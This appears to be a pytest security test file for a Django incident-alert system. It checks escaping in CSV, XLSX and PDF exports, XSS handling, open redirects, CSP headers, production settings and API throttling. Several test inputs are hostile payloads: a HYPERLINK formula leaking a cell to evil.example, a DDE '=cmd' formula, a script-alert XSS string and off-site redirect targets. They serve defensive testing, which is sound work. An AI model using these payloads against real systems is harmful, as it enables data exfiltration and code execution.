"""Hardening: exports that cannot run formulas or markup, messages stored as written and escaped
where shown, redirects and links that reveal nothing, and the production settings (HTTPS,
CSP, Permissions-Policy, API docs behind a login, throttling)."""

import csv
import os
import re
import secrets
import subprocess
import sys
from datetime import datetime, timedelta
from io import BytesIO, StringIO
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.cache import cache
from openpyxl import load_workbook
from pypdf import PdfReader

from accountability import exports as accountability_exports
from accountability import services as accountability_services
from accountability.models import Violation
from alerts.models import Alert, AlertRecipient
from core.spreadsheets import cell
from dashboards import exports as dashboard_exports
from deadlines.services import deadlines_sweep
from incidents import services as incident_services
from notifications.models import Delivery, Notification
from tests.incidents import conftest as incident_fixtures

ROOT = Path(__file__).resolve().parent.parent
SH = ZoneInfo("Asia/Shanghai")
# A Tuesday in the middle of a month: the assessment period is that month.
TUESDAY = datetime(2026, 3, 10, 10, 0, tzinfo=SH)
# the demo province and incidents made through the service, as the incident tests have them
demo = incident_fixtures.demo
make_incident = incident_fixtures.make_incident
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'


@pytest.fixture
def pinned():
    with time_machine.travel(TUESDAY, tick=True) as traveller:
        yield traveller


def published(make_incident, demo, **facts):
    incident = make_incident(**facts)
    incident_services.incident_publish(incident_id=incident.pk, actor=demo["cs_contact"])
    incident.refresh_from_db()
    return incident


# --- 1. exports: no formulas in spreadsheets, no markup in PDFs -----------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        (HYPERLINK, "'" + HYPERLINK),
        ("网络部", "网络部"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (20, 20),
        (-5, -5),
        (12.5, 12.5),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_text(value, expected):
    assert cell(value) == expected


def test_dashboard_csv_and_xlsx_keep_formulas_as_text_and_numbers_as_numbers():
    table = [["部门", "按时率 %"], ["=cmd|' /C calc'!A0", 95.5], ["-1+2", -3], ["网络部", 100]]
    rows = list(csv.reader(StringIO(dashboard_exports.as_csv(table).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'=cmd|' /C calc'!A0", "'-1+2", "网络部"]
    sheet = load_workbook(BytesIO(dashboard_exports.as_xlsx(table, "部门"))).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert [c.value for c in cells] == ["'=cmd|' /C calc'!A0", 95.5, "'-1+2", -3, "网络部", 100]
    assert all(c.data_type != "f" for c in cells)


def test_a_violation_reason_that_is_a_formula_is_text_in_the_assessment(
    pinned, make_incident, demo, client
):
    incident = make_incident()
    explanation = incident.deadlines.get(kind="incident-explanation")
    deadlines_sweep(now=explanation.due_at + timedelta(minutes=1))
    violation = Violation.objects.get(rule__code="incident-step-late")
    accountability_services.violation_confirm(
        violation_id=violation.pk, actor=demo["mkt_contact"], reason=HYPERLINK
    )
    client.force_login(demo["manager"])
    response = client.get("/accountability/assessments/2026-03/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values
    assert 20 in values  # the yuan stay a number


def test_every_spreadsheet_export_uses_the_shared_cell_helper():
    for module in (
        "accountability/exports.py",
        "dashboards/exports.py",
        "complaints/exports.py",
        "incidents/exports.py",
    ):
        source = (ROOT / module).read_text()
        assert "spreadsheets" in source, module
    # no export writes rows of its own past the helper
    for path in ROOT.glob("*/exports.py"):
        source = path.read_text()
        assert "csv.writer(" not in source or "spreadsheets" in source, path
        assert ".append(" not in source or "spreadsheets" in source, path


def test_the_bulletin_pdf_shows_markup_in_a_title_as_text(make_incident, demo, client):
    title = '<font size="40" color="red">R&D</font> 光缆<b>中断'
    incident = make_incident(title=title)
    client.force_login(demo["cs_contact"])
    response = client.get(f"/incidents/{incident.pk}/bulletin.pdf")
    assert response.status_code == 200
    text = PdfReader(BytesIO(response.content)).pages[0].extract_text()
    assert "R&D" in text and "<b>" in text and "<font" in text


def test_the_assessment_pdf_shows_markup_as_text():
    summary = {
        "items": 1,
        "total_yuan": 20,
        "departments": {
            "X": {
                "department": "<b>R&D</b>",
                "items": 1,
                "yuan": 20,
                "points": 5,
                "bonus_months": 0,
                "criticised": 0,
            }
        },
        "people": {},
    }
    body = accountability_exports.assessment_pdf("2026-03", summary, "<i>草稿&")
    text = PdfReader(BytesIO(body)).pages[0].extract_text()
    assert "<i>草稿&" in text and "<b>R&D</b>" in text


def test_every_pdf_paragraph_goes_through_the_escaping_helper():
    for path in ROOT.glob("*/exports.py"):
        assert "Paragraph(" not in path.read_text(), path


# --- 2. messages are stored as written, escaped where shown ----------------------------------


def test_a_title_with_markup_reaches_sms_and_email_as_written_and_the_inbox_escaped(
    make_incident, demo, client
):
    title = "<script>alert(1)</script> R&D 光缆\"中断\" 'x'"
    incident = published(make_incident, demo, title=title)
    notification = Notification.objects.get(
        recipient__username="mkt_contact", kind="alert.published"
    )
    assert title in notification.subject
    assert "&lt;" not in notification.subject + notification.body
    assert "&amp;" not in notification.subject + notification.body
    deliveries = Delivery.objects.filter(notification=notification)
    assert {d.channel for d in deliveries} == {"email", "sms"}
    for delivery in deliveries:
        assert title in delivery.subject and "&lt;" not in delivery.subject + delivery.body
        assert "&#x27;" not in delivery.subject and "&quot;" not in delivery.subject
    client.force_login(demo["mkt_contact"])
    page = client.get("/notifications/").content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; R&amp;D" in page
    alert = Alert.objects.get(incident=incident)
    detail = client.get(f"/alerts/{alert.pk}/").content.decode()
    assert "<script>alert(1)</script>" not in detail


# --- 3. alerts: acknowledgment redirect, link pages, phone records ---------------------------


def test_acknowledging_follows_only_a_same_host_next(make_incident, demo, client):
    incident = published(make_incident, demo)
    other = published(make_incident, demo, cities=("JL",))
    client.force_login(demo["mkt_contact"])
    recipient = AlertRecipient.objects.get(incident=incident, user=demo["mkt_contact"])
    response = client.post(
        f"/alerts/recipients/{recipient.pk}/acknowledge/", {"next": "https://evil.example/x"}
    )
    assert response.status_code == 302 and response["Location"] == "/alerts/"
    recipient = AlertRecipient.objects.get(incident=other, user=demo["mkt_contact"])
    response = client.post(
        f"/alerts/recipients/{recipient.pk}/acknowledge/", {"next": "/alerts/all/"}
    )
    assert response["Location"] == "/alerts/all/"
    for outside in ("//evil.example/", "http://testserver.evil.example/"):
        response = client.post(f"/alerts/recipients/{recipient.pk}/acknowledge/", {"next": outside})
        assert response["Location"] == "/alerts/"


def test_an_expired_or_tampered_ack_link_does_not_show_the_incident(
    make_incident, demo, client, settings
):
    from alerts.services import ack_link

    title = "长春某小区宽带大面积中断"
    incident = published(make_incident, demo, title=title)
    recipient = AlertRecipient.objects.get(incident=incident, user__username="mkt_contact")
    path = ack_link(recipient).split("8000", 1)[1]
    assert title in client.get(path).content.decode()  # a valid link shows what it acknowledges
    tampered = client.get(path[:-3] + "xx/")
    assert tampered.status_code == 400 and title not in tampered.content.decode()
    settings.ALERT_ACK_LINK_MAX_AGE = -1
    for response in (client.get(path), client.post(path)):
        page = response.content.decode()
        assert response.status_code == 400
        assert title not in page and incident.number not in page
    recipient.refresh_from_db()
    assert recipient.acknowledged_at is None


def test_the_phone_record_reveals_no_alert_to_someone_not_entitled(make_incident, demo, client):
    incident = published(make_incident, demo, cities=("CC",))
    alert = Alert.objects.get(incident=incident)
    recipient = AlertRecipient.objects.get(incident=incident, user__username="mkt_contact")
    outsider = demo["sy_contact"]  # another branch: neither reached nor handling the incident
    client.force_login(outsider)
    assert client.get(f"/alerts/{alert.pk}/").status_code == 404
    response = client.post(f"/alerts/recipients/{recipient.pk}/phone/")
    assert response.status_code == 404
    assert f"/alerts/{alert.pk}/" not in response.get("Location", "")
    recipient.refresh_from_db()
    assert recipient.phoned_at is None
    # the publisher still records the call and returns to the alert
    client.force_login(demo["cs_contact"])
    response = client.post(f"/alerts/recipients/{recipient.pk}/phone/")
    assert response["Location"] == f"/alerts/{alert.pk}/"
    recipient.refresh_from_db()
    assert recipient.phoned_by == demo["cs_contact"]


# --- 4. exports answer only the formats they have ----------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/accountability/assessments/2026-03/export.exe",
        "/accountability/assessments/2026-03/export.PDF",
        "/accountability/assessments/2026-03/export.",
        "/dashboard/export/departments.exe",
        "/dashboard/export/trends.pdf",
        "/complaints/export.exe",
        "/complaints/export.",
        "/incidents/export.CSV",
        "/accountability/violations/export.pdf",
    ],
)
def test_an_unknown_export_format_is_not_found(path, pinned, demo, client):
    client.force_login(demo["manager"])
    response = client.get(path)
    assert response.status_code == 404
    assert response.get("Content-Type", "").startswith("text/html")


def test_the_known_export_formats_still_answer(pinned, demo, client):
    client.force_login(demo["manager"])
    assert client.get("/accountability/assessments/2026-03/export.pdf")["Content-Type"] == (
        "application/pdf"
    )
    assert client.get("/accountability/assessments/2026-03/export.xlsx").status_code == 200


# --- 5. production settings ------------------------------------------------------------------


def _python(code: str, **env: str) -> subprocess.CompletedProcess:
    """Run ``code`` in a fresh interpreter at the project root, with only ``env`` set of
    Django's variables (the dummy production secrets unless given)."""
    environment = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("DJANGO_", "DATABASE_URL", "CELERY_", "API_", "CACHE_URL"))
    }
    environment.update(
        {
            "DJANGO_SECRET_KEY": secrets.token_urlsafe(50),
            "DJANGO_ALLOWED_HOSTS": "fenghuo.example",
            "DATABASE_URL": "postgres://fenghuo:secret@db.example:5432/fenghuo",
            "CELERY_BROKER_URL": "redis://redis.example:6379/0",
            "FENGHUO_VAR_DIR": "/tmp/fenghuo-security-test",
        }
    )
    environment.update(env)
    return subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )


SHOW = """
import json, django
from django.conf import settings
django.setup()
print(json.dumps({
    "module": settings.SETTINGS_MODULE,
    "redirect": settings.SECURE_SSL_REDIRECT,
    "hsts": settings.SECURE_HSTS_SECONDS,
    "session_secure": settings.SESSION_COOKIE_SECURE,
    "csrf_secure": settings.CSRF_COOKIE_SECURE,
    "docs_login": settings.API_DOCS_REQUIRE_LOGIN,
    "cache": settings.CACHES["default"]["BACKEND"],
    "cache_location": settings.CACHES["default"].get("LOCATION"),
    "throttles": settings.REST_FRAMEWORK.get("DEFAULT_THROTTLE_CLASSES"),
    "rates": settings.REST_FRAMEWORK.get("DEFAULT_THROTTLE_RATES"),
    "axes": "core.third_party.SignInAttemptsConfig" in settings.INSTALLED_APPS
    and settings.AXES_FAILURE_LIMIT,
}))
"""


def _settings_of(entry: str, **env: str) -> dict:
    import json

    result = _python(f"import {entry}\n{SHOW}", **env)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_wsgi_and_asgi_default_to_production_settings():
    for entry in ("config.wsgi", "config.asgi"):
        shown = _settings_of(entry)
        assert shown["module"] == "config.settings.production", entry


def test_the_celery_app_defaults_to_production_too():
    # a server imports the `config` package, and so the Celery app, before `config.wsgi`
    assert _settings_of("config.celery")["module"] == "config.settings.production"


def test_manage_py_and_make_run_keep_the_local_settings():
    result = _python(
        "import sys; sys.argv = ['manage.py', 'shell', '-c', "
        "'from django.conf import settings; print(settings.SETTINGS_MODULE)']\n"
        "import manage; manage.main()"
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == "config.settings.local"
    # `make run` starts the Procfile: the web (uvicorn), the workers and beat, on the local
    # settings (config.asgi and the Celery app would otherwise choose production's)
    local = "DJANGO_SETTINGS_MODULE=${DJANGO_SETTINGS_MODULE:-config.settings.local} "
    for line in (ROOT / "config" / "Procfile").read_text().splitlines():
        if line.startswith("#"):
            continue
        name, command = line.split(": ", 1)
        assert command.startswith((local + "celery -A", local + "uvicorn config.asgi:")), name


def test_production_is_https_throttled_and_hides_the_api_docs_by_default():
    shown = _settings_of("config.wsgi")
    assert shown["redirect"] is True
    assert shown["hsts"] >= 31536000
    assert shown["session_secure"] is True and shown["csrf_secure"] is True
    assert shown["docs_login"] is True
    assert shown["cache"] == "django.core.cache.backends.redis.RedisCache"
    assert shown["cache_location"] == "redis://redis.example:6379/0"
    assert shown["rates"]["user"] and shown["rates"]["anon"] and shown["rates"]["failed_auth"]
    assert shown["throttles"]
    assert shown["axes"] == 5  # login throttling stays


def test_one_switch_serves_production_over_plain_http():
    shown = _settings_of("config.wsgi", DJANGO_HTTPS="false")
    assert (shown["redirect"], shown["hsts"], shown["session_secure"], shown["csrf_secure"]) == (
        False,
        0,
        False,
        False,
    )


def test_check_deploy_is_clean_with_the_production_defaults():
    result = _python(
        "import sys; sys.argv = ['manage.py', 'check', '--deploy', '--fail-level', 'WARNING']\n"
        "import manage; manage.main()",
        DJANGO_SETTINGS_MODULE="config.settings.production",
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_the_local_settings_neither_redirect_nor_hide_the_docs(settings):
    assert settings.API_DOCS_REQUIRE_LOGIN is False
    assert not settings.SECURE_SSL_REDIRECT


# --- headers on every page ------------------------------------------------------------------


@pytest.mark.django_db
def test_pages_carry_a_content_security_policy_and_a_permissions_policy(client):
    response = client.get("/accounts/login/")
    policy = response["Content-Security-Policy"]
    directives = dict(
        [*part.split(" ", 1), ""][:2] for part in (p.strip() for p in policy.split(";")) if part
    )
    assert directives["default-src"] == "'self'"
    assert "'unsafe-inline'" not in directives["script-src"]
    assert "'unsafe-eval'" not in directives["script-src"]
    assert directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    assert "'unsafe-inline'" not in directives.get("style-src", "")
    permissions = response["Permissions-Policy"]
    for feature in ("camera=()", "microphone=()", "geolocation=()", "payment=()"):
        assert feature in permissions


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>", re.I)
INLINE_HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)
STYLE_ELEMENT = re.compile(r"<style[\s>]", re.I)


def test_no_template_carries_inline_script_handlers_or_style_elements():
    found = []
    for path in sorted((ROOT / "templates").rglob("*.html")):
        source = path.read_text()
        for pattern in (INLINE_SCRIPT, INLINE_HANDLER, STYLE_ELEMENT):
            found += [f"{path.relative_to(ROOT)}: {m.group(0)}" for m in pattern.finditer(source)]
    assert found == []


@pytest.mark.django_db
def test_the_hsts_header_and_the_redirect_when_https_is_on(client, settings):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_HSTS_SECONDS = 31536000
    settings.SECURE_REDIRECT_EXEMPT = [r"^healthz$"]
    response = client.get("/accounts/login/")
    assert response.status_code == 301 and response["Location"].startswith("https://")
    assert client.get("/healthz").status_code == 200  # load balancers probe over plain HTTP
    secure = client.get("/accounts/login/", secure=True)
    assert secure.status_code == 200
    assert secure["Strict-Transport-Security"].startswith("max-age=31536000")


# --- the API schema and docs behind a login -------------------------------------------------


@pytest.mark.django_db
def test_the_api_schema_and_docs_need_a_login_when_switched_on(client, settings, api_key, demo):
    settings.API_DOCS_REQUIRE_LOGIN = True
    assert client.get("/api/schema/").status_code in (401, 403)
    docs = client.get("/api/docs/")
    assert docs.status_code == 302 and docs["Location"].startswith("/accounts/login/")
    _key, raw = api_key
    assert client.get("/api/schema/", HTTP_AUTHORIZATION=f"Api-Key {raw}").status_code == 200
    client.force_login(demo["net_contact"])
    assert client.get("/api/schema/").status_code == 200
    page = client.get("/api/docs/")
    assert page.status_code == 200
    assert not INLINE_SCRIPT.search(page.content.decode())  # the CSP would block it
    script = client.get("/api/docs/?script=")
    assert script.status_code == 200 and "SwaggerUIBundle" in script.content.decode()


@pytest.mark.django_db
def test_the_api_schema_is_open_when_switched_off(client, settings):
    settings.API_DOCS_REQUIRE_LOGIN = False
    assert client.get("/api/schema/").status_code == 200
    assert client.get("/api/docs/").status_code == 200


# --- throttling ---------------------------------------------------------------------------------


@pytest.fixture
def redis_throttling(settings):
    """The production arrangement: DRF's throttles keep their counts in the Redis cache."""
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": settings.CELERY_BROKER_URL,
            "KEY_PREFIX": f"throttle-test-{secrets.token_hex(4)}",
        }
    }
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"anon": "3/min", "user": "3/min", "failed_auth": "3/min"},
    }
    yield
    cache.clear()


@pytest.mark.django_db
def test_wrong_api_keys_are_throttled_then_even_a_right_one(redis_throttling, api_key):
    from rest_framework.test import APIClient

    client = APIClient(REMOTE_ADDR="203.0.113.7")
    for _n in range(3):
        response = client.get("/api/v1/incidents/", HTTP_AUTHORIZATION="Api-Key wrong.guess")
        assert response.status_code == 401
    response = client.get("/api/v1/incidents/", HTTP_AUTHORIZATION="Api-Key wrong.guess")
    assert response.status_code == 429
    assert 0 < int(response["Retry-After"]) <= 60
    assert response.json()["errors"][0]["code"] == "throttled"
    # a guess that happens to be right is refused as well while the address is throttled
    _key, raw = api_key
    assert client.get("/api/v1/incidents/", HTTP_AUTHORIZATION=f"Api-Key {raw}").status_code == 429
    # another address is not
    other = APIClient(REMOTE_ADDR="203.0.113.8")
    assert other.get("/api/v1/incidents/", HTTP_AUTHORIZATION=f"Api-Key {raw}").status_code == 200
    assert other.get("/api/v1/incidents/").status_code == 401  # no credentials count as well


@pytest.mark.django_db
def test_a_key_is_throttled_at_its_rate_with_retry_after(redis_throttling, api_key):
    from rest_framework.test import APIClient

    _key, raw = api_key
    client = APIClient(HTTP_AUTHORIZATION=f"Api-Key {raw}")
    assert [client.get("/api/v1/cities/").status_code for _n in range(3)] == [200, 200, 200]
    response = client.get("/api/v1/cities/")
    assert response.status_code == 429 and int(response["Retry-After"]) > 0


@pytest.mark.django_db
def test_without_rates_nothing_is_throttled(api_key):
    from rest_framework.test import APIClient

    _key, raw = api_key
    client = APIClient(HTTP_AUTHORIZATION=f"Api-Key {raw}")
    assert {client.get("/api/v1/cities/").status_code for _n in range(10)} == {200}
    assert {APIClient().get("/api/v1/cities/").status_code for _n in range(10)} == {401}
